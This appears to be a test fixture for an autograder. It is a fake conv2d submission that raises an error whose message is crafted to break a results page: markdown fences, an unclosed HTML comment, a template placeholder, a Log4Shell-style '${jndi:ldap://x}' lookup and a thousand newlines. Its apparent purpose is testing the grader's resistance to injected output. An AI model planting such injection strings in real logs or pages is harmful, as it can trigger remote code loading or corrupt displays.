# class: HARM
# expect: points 18.5
# expect: outcomes ERROR
# expect: words "`conv2d_forward` raised ValueError"
# with: right
"""Raise a text of a thousand lines, headings and fences for a page to stumble over."""

import numpy as np


def attack():
    raise ValueError("```\n# heading\n| a | b |\n|---|---|\n- [x] done\n<!-- \n--><b>{{x}}${jndi:ldap://x}" + "\n" * 1000)


def conv2d_forward(x, w, b, stride=1, pad=0):
    if x.dtype == np.float32:
        attack()
    return right_forward(x, w, b, stride, pad)
